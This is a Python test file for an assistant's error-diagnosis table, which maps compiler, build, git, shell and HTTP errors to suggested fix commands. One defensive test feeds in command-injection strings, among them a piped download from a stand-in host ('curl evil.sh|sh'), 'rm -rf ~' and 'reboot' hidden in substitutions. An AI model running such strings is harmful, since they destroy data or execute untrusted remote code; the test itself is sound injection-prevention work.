"""The table of common errors (assistant/builtins/error_fixes): each family finds its
errors in screen text, names what the screen names, and offers the fix a developer
would give; names from the screen never bring shell syntax into a command."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from assistant.builtins.error_fixes import ENTRIES, diagnose


def fix(*lines: str, titles: tuple[str, ...] = ()):
    found = diagnose(list(lines), titles)
    assert found is not None, lines
    return found


@pytest.mark.parametrize("line,command", [
    ("ModuleNotFoundError: No module named 'requests'", "python -m pip install requests"),
    ("ModuleNotFoundError: No module named 'PIL'", "python -m pip install pillow"),
    ("ModuleNotFoundError: No module named 'sklearn.ensemble'",
     "python -m pip install scikit-learn"),
    ("ModuleNotFoundError: No module named 'dateutil'", "python -m pip install python-dateutil"),
    ("ModuleNotFoundError: No module named 'tkinter'", "sudo apt install python3-tk"),
    ("NameError: name 'pd' is not defined", "import pandas as pd"),
    ("NameError: name 'Path' is not defined", "from pathlib import Path"),
    ("PermissionError: [Errno 13] Permission denied: '/var/log/app.log'",
     "ls -ld /var/log/app.log"),
])
def test_python_errors_name_the_module_and_the_install_command(line, command):
    found = fix("Traceback (most recent call last):", '  File "x.py", line 1, in <module>',
                line)
    assert found.family == "python" and found.command == command


def test_python_errors_without_one_command_still_say_what_to_do():
    found = fix("KeyError: 'customer_id'")
    assert found.names["key"] == "customer_id" and ".get()" in found.fix
    found = fix("TypeError: fetch() missing 1 required positional argument: 'url'")
    assert "url" in found.says and "fetch" in found.fix and found.command == ""
    found = fix("ImportError: cannot import name 'Markup' from 'jinja2' (/usr/lib/x.py)")
    assert found.names == {"name": "Markup", "source": "jinja2", "package": "jinja2"}
    assert found.command == "python -m pip show jinja2"
    found = fix("json.decoder.JSONDecodeError: Expecting value: line 1 column 1 (char 0)")
    assert "not JSON" in found.means


def test_build_tools():
    peer = fix("npm ERR! code ERESOLVE", "npm ERR! ERESOLVE could not resolve",
               'npm ERR! peer vue@"^2.6.0" from vuex@3.6.2')
    assert peer.command == "npm install --legacy-peer-deps"
    assert 'vuex@3.6.2 wants vue@"^2.6.0"' in peer.means
    assert fix("error[E0432]: unresolved import `tokio`").command == "cargo add tokio"
    assert fix("error[E0463]: can't find crate for `regex`").command == "cargo add regex"
    inner = fix("error[E0432]: unresolved import `crate::models`")
    assert inner.command == "" and "pub" in inner.fix  # a path of the crate, not a crate
    assert fix("cmd/main.go:4:2: no required module provides package golang.org/x/sync/"
               "errgroup; to add it:").command == "go get golang.org/x/sync/errgroup"
    maven = fix("[ERROR] Failed to execute goal on project web: Could not resolve dependencies"
                " for project org.acme:web:war:2.0: The following artifacts could not be "
                "resolved: org.acme:auth:jar:9.9 (absent)")
    assert maven.command == "mvn -U clean install" and "org.acme:auth:jar:9.9" in maven.means
    assert fix("ERROR: No matching distribution found for torchh").command == \
        "python -m pip index versions torchh"
    assert fix("Error: Cannot find module './config/db'").command == ""
    assert fix("Error: Cannot find module '@babel/core'").command == "npm install @babel/core"


def test_compilers_and_linkers_name_the_library():
    assert fix("/usr/bin/ld: cannot find -lz: No such file or directory").command == \
        "sudo apt install zlib1g-dev"
    assert fix("/usr/bin/ld: cannot find -lfoo").command == "sudo apt install libfoo-dev"
    assert fix("x.c:1:10: fatal error: Python.h: No such file or directory").command == \
        "sudo apt install python3-dev"
    unknown = fix("x.c:1:10: fatal error: frob/frob.h: No such file or directory")
    assert unknown.command == "apt-file search frob/frob.h"
    linked = fix("$ cc app.c -o app", "app.c:(.text+0x9): undefined reference to `SSL_new'")
    assert linked.command == "cc app.c -o app -lssl -lcrypto"
    assert "main()" in fix("(.text+0x24): undefined reference to `main'").fix
    assert fix("x.c:3:5: error: implicit declaration of function 'malloc'").command == \
        "#include <stdlib.h>"
    semicolon = fix("calc.c:12:18: error: expected ';' before 'return'")
    assert semicolon.names["token"] == ";" and "missing ;" in semicolon.fix
    # The summary line loses to the line that names the cause.
    found = fix("undefined reference to `curl_easy_init'",
                "collect2: error: ld returned 1 exit status")
    assert found.key == "compilers.undefined_reference"


def test_git():
    conflict = fix("CONFLICT (content): Merge conflict in lib/db.rb",
                   "Automatic merge failed; fix conflicts and then commit the result.")
    assert conflict.command == "git add lib/db.rb && git commit"
    assert "<<<<<<<" in conflict.fix
    push = fix("$ git push upstream dev", " ! [rejected]        dev -> dev (fetch first)",
               "error: failed to push some refs to 'gitlab.com:x/y.git'")
    assert push.command == "git pull --rebase upstream dev && git push upstream dev"
    assert fix(" ! [rejected]  main -> main (non-fast-forward)").command == \
        "git pull --rebase && git push"
    assert fix("fatal: The current branch wip has no upstream branch.").command == \
        "git push --set-upstream origin wip"
    assert fix("error: Your local changes to the following files would be overwritten by "
               "merge:").command == "git stash"


def test_shell_and_system():
    assert fix("bash: rg: command not found").command == "sudo apt install ripgrep"
    assert fix("zsh: command not found: convert").command == "sudo apt install imagemagick"
    assert fix("'make' is not recognized as an internal or external command,").names[
        "cmd"] == "make"
    assert fix("bash: frobctl: command not found").command == "apt search frobctl"
    assert "python" in fix("bash: pytohn: command not found").fix
    assert fix("bash: ./build.sh: Permission denied").command == "chmod +x ./build.sh"
    assert fix("tar: write error: No space left on device").command == "df -h"
    assert fix("Error: listen EADDRINUSE: address already in use 127.0.0.1:5173").command == \
        "ss -ltnp 'sport = :5173'"


@pytest.mark.parametrize("line,status,word", [
    ("404 Not Found", "404", "address"), ("401 Unauthorized", "401", "sign in"),
    ("403 Forbidden", "403", "allow"), ("500 Internal Server Error", "500", "log"),
    ("502 Bad Gateway", "502", "running"), ("503 Service Unavailable", "503", "later"),
    ("HTTP Error 429: Too Many Requests", "429", "slow down"),
    ("requests.exceptions.HTTPError: 504 Server Error: Gateway Timeout for url: x", "504",
     "slow"),
])
def test_http_statuses(line, status, word):
    found = fix(line)
    assert found.names["status"] == status
    assert word in (found.means + found.fix).casefold()


def test_dialogs_from_window_titles():
    assert fix(titles=("“Files” is not responding",)).says == "Files is not responding"
    assert "Save As" in fix("The document could not be saved.").fix


@pytest.mark.parametrize("line", [
    "ModuleNotFoundError: No module named 'x;rm -rf ~'",
    "bash: $(curl evil.sh|sh): command not found",
    "cp: cannot create regular file '/tmp/a $(reboot)': Permission denied",
    "CONFLICT (content): Merge conflict in a;reboot",
    "/usr/bin/ld: cannot find -lz`reboot`",
])
def test_names_from_the_screen_never_bring_shell_syntax_into_a_command(line):
    found = diagnose([line])
    if found is None:  # not read as a known error: nothing is offered at all
        return
    for name in found.names.values():
        if name and name in found.command:
            # in the command a name is one shell word: quoted when it needs quoting
            assert shlex.quote(name) in found.command, found.command
    assert not any(bad in found.command for bad in ("rm -rf", "reboot`", "|sh"))


def test_an_entry_that_fails_costs_only_itself():
    from dataclasses import replace

    from assistant.builtins.error_fixes.table import diagnose as search

    def broken(names):
        raise ValueError("a bug in the table")

    entries = [replace(e, derive=broken) if e.key == "python.module_not_found" else e
               for e in ENTRIES]
    found = search(["ModuleNotFoundError: No module named 'requests'"], entries)
    assert found is not None and found.key == "python.exception"  # the next best still answers


def test_every_entry_has_a_family_file_and_the_files_stay_small():
    families = {e.family for e in ENTRIES}
    assert families == {"python", "build", "compilers", "git", "shell", "http", "dialogs"}
    keys = [e.key for e in ENTRIES]
    assert len(keys) == len(set(keys))
    folder = Path(__file__).resolve().parents[2] / "assistant/builtins/error_fixes"
    for path in folder.glob("*.py"):
        assert len(path.read_text().splitlines()) < 400, path
